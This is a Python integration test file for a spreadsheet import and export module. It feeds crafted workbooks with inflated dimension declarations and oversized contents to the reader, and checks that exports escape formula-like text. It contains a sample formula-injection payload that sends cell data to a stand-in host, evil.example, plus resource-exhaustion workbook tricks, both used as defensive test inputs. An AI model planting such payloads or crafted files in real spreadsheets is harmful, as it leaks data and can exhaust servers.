"""Integration: the one reader and writer of CSV/XLSX tables: read-only workbooks within the import
limits whatever size they declare, and exports whose formula-like text comes out inert."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from helix.core.registry.records import Limits, RowError
from helix.spreadsheets import read_workbook, write_csv, write_workbook

pytestmark = pytest.mark.integration

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def workbook_bytes(rows: list[list[object]], title: str = "organisations") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_sheet(data: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The workbook with its first sheet's XML passed through ``change``, as a crafted file would be."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            part = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                part = change(part)
            target.writestr(item, part)
    return out.getvalue()


def with_dimension(data: bytes, ref: str) -> bytes:
    """The workbook with its first sheet's <dimension> rewritten to ``ref``, as a crafted file would say."""

    def change(part: bytes) -> bytes:
        part, count = re.subn(rb'<dimension ref="[^"]*" ?/>', f'<dimension ref="{ref}"/>'.encode(), part)
        assert count == 1
        return part

    return with_sheet(data, change)


def crafted(tmp_path: Path, ref: str, name: str = "crafted.xlsx") -> Path:
    path = tmp_path / name
    rows = [["name", "kind"], ["Acme", "company"], ["Beta", "company"]]
    path.write_bytes(with_dimension(workbook_bytes(rows), ref))
    return path


def tables(sheets):  # type: ignore[no-untyped-def]
    return [(name, table.header, table.rows) for name, table in sheets]


REAL = [("organisations", ("name", "kind"), ((2, ("Acme", "company")), (3, ("Beta", "company"))))]


# --- reading ----------------------------------------------------------------------------------------


def test_a_declared_dimension_does_not_pad_rows(tmp_path, settings):
    """openpyxl pads every row to the declared width: 16,384 cells for XFD."""
    sheets, errors = read_workbook(crafted(tmp_path, "A1:XFD20"), limits=Limits())
    assert (tables(sheets), errors) == (REAL, [])


def test_a_5_kb_workbook_declaring_a1_xfd200000_stays_small_and_fast(tmp_path):
    """The attack: a cell in row 200,000 of a sheet declaring XFD. Padded, every row up to it would be
    16,384 cells (26 GB); read in a child process capped at 1 GB, so a regression fails instead of
    exhausting the machine."""
    path = crafted(tmp_path, "A1:XFD200000")
    far_row = '<row r="200000"><c r="A200000" t="inlineStr"><is><t>Gamma</t></is></c></row>'
    with zipfile.ZipFile(path) as source:
        parts = [(item, source.read(item.filename)) for item in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for item, part in parts:
            if item.filename == "xl/worksheets/sheet1.xml":
                part = part.replace(b"</sheetData>", far_row.encode() + b"</sheetData>")
            target.writestr(item, part)
    assert path.stat().st_size < 6_000
    child = f"""
import json, resource, time, tracemalloc
from pathlib import Path
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from helix.core.registry.records import Limits
from helix.spreadsheets import read_workbook
tracemalloc.start()
started = time.perf_counter()
sheets, errors = read_workbook(Path({str(path)!r}), limits=Limits())
print(json.dumps({{
    "seconds": time.perf_counter() - started,
    "peak": tracemalloc.get_traced_memory()[1],
    "errors": [str(e) for e in errors],
    "rows": [[n, list(cells)] for n, cells in sheets[0][1].rows],
}}))
"""
    done = subprocess.run(
        [sys.executable, "-c", child], capture_output=True, text=True, timeout=120, check=False
    )

    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout)
    assert (result["errors"], result["rows"]) == (
        [],
        [[2, ["Acme", "company"]], [3, ["Beta", "company"]], [200000, ["Gamma"]]],
    )
    assert result["peak"] < 20 * 1024 * 1024
    assert result["seconds"] < 20


def test_more_rows_than_the_limit_is_refused_naming_it(tmp_path):
    path = tmp_path / "long.xlsx"
    path.write_bytes(workbook_bytes([["name", "kind"], *[[f"Org {i}", "company"] for i in range(6)]]))
    assert tables(read_workbook(path, limits=Limits(rows=6))[0])[0][2][-1] == (7, ("Org 5", "company"))
    sheets, errors = read_workbook(path, limits=Limits(rows=5))
    assert sheets == []
    assert [str(e) for e in errors] == [
        "long.xlsx, sheet organisations, row 7: more than 5 rows after the header; an import reads at "
        "most 5 (HELIX_IMPORT_MAX_ROWS): split the file"
    ]


def test_a_cell_beyond_the_column_limit_is_refused_naming_it(tmp_path):
    path = tmp_path / "wide.xlsx"
    path.write_bytes(workbook_bytes([["name", "kind"], ["Acme", "company", None, "stray"]]))
    sheets, errors = read_workbook(path, limits=Limits(columns=3))
    assert sheets == []
    assert [str(e) for e in errors] == [
        "wide.xlsx, sheet organisations, row 2: cells in 4 columns; an import reads at most 3 columns "
        "(HELIX_IMPORT_MAX_COLUMNS): delete the columns after your data"
    ]
    assert tables(read_workbook(path, limits=Limits(columns=4))[0])[0][2] == (
        (2, ("Acme", "company", "", "stray")),
    )


def test_a_cell_in_column_xfd_is_refused_without_reading_16384_cells_a_row(tmp_path):
    data = workbook_bytes([["name", "kind"], ["Acme", "company"]])
    far = "".join(f'<row r="{n}"><c r="XFD{n}" t="n"><v>1</v></c></row>' for n in range(3, 503))
    path = tmp_path / "far.xlsx"
    path.write_bytes(
        with_sheet(data, lambda part: part.replace(b"</sheetData>", far.encode() + b"</sheetData>"))
    )
    started = time.perf_counter()
    sheets, errors = read_workbook(path, limits=Limits())
    assert time.perf_counter() - started < 2.0
    assert (sheets, [(e.row, e.message.split(";")[0]) for e in errors]) == (
        [],
        [(3, "cells in 16,384 columns")],
    )


def test_a_workbook_unpacking_beyond_the_limit_is_refused_before_reading(tmp_path):
    path = tmp_path / "big.xlsx"
    path.write_bytes(
        workbook_bytes([["name", "kind"], *[[f"{i}" + "x" * 30_000, "company"] for i in range(10)]])
    )
    unpacked = sum(i.file_size for i in zipfile.ZipFile(path).infolist())
    assert path.stat().st_size < 20_000 < 200_000 < unpacked
    sheets, errors = read_workbook(path, limits=Limits(unpacked_bytes=100_000))
    assert (sheets, errors) == (
        [],
        [
            RowError(
                "big.xlsx",
                None,
                None,
                f"the workbook unpacks to {unpacked:,} bytes; an import reads at most 100,000 "
                "(HELIX_IMPORT_MAX_UNPACKED_BYTES)",
            )
        ],
    )


def test_the_limits_default_to_the_settings(tmp_path, settings):
    settings.HELIX_IMPORT_MAX_ROWS = 1
    sheets, errors = read_workbook(crafted(tmp_path, "A1:B3"))
    assert sheets == []
    assert [e.message for e in errors] == [
        "more than 1 rows after the header; an import reads at most 1 (HELIX_IMPORT_MAX_ROWS): split the file"
    ]


def test_a_file_that_is_not_a_workbook_is_an_error_not_an_exception(tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"name,kind\nAcme,company\n")
    sheets, errors = read_workbook(path, limits=Limits())
    assert sheets == []
    assert [e.message.split(" (")[0] for e in errors] == ["not a readable XLSX workbook"]


# --- writing ----------------------------------------------------------------------------------------


def test_csv_escapes_formula_text_and_keeps_numbers_numbers():
    handle = io.StringIO()
    write_csv(
        handle,
        ["text", "plus", "at", "tab", "number", "negative", "negative text", "flag", "empty"],
        [[ATTACK, "+1+cmd", "@SUM(A1)", "\tx", 12.5, -3, "-3", True, None]],
    )
    assert list(csv.reader(io.StringIO(handle.getvalue()))) == [
        ["text", "plus", "at", "tab", "number", "negative", "negative text", "flag", "empty"],
        ["'" + ATTACK, "'+1+cmd", "'@SUM(A1)", "'\tx", "12.5", "-3", "'-3", "true", ""],
    ]


def test_xlsx_escapes_formula_text_as_plain_strings_and_keeps_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    write_workbook(path, {"sheet": (["text", "tab", "number", "negative"], [[ATTACK, "\t=1", 2.5, -7]])})
    book = openpyxl.load_workbook(path)
    cells = next(book["sheet"].iter_rows(min_row=2, values_only=False))
    assert [(c.value, c.data_type) for c in cells] == [
        ("'" + ATTACK, "s"),
        ("'\t=1", "s"),
        (2.5, "n"),
        (-7, "n"),
    ]
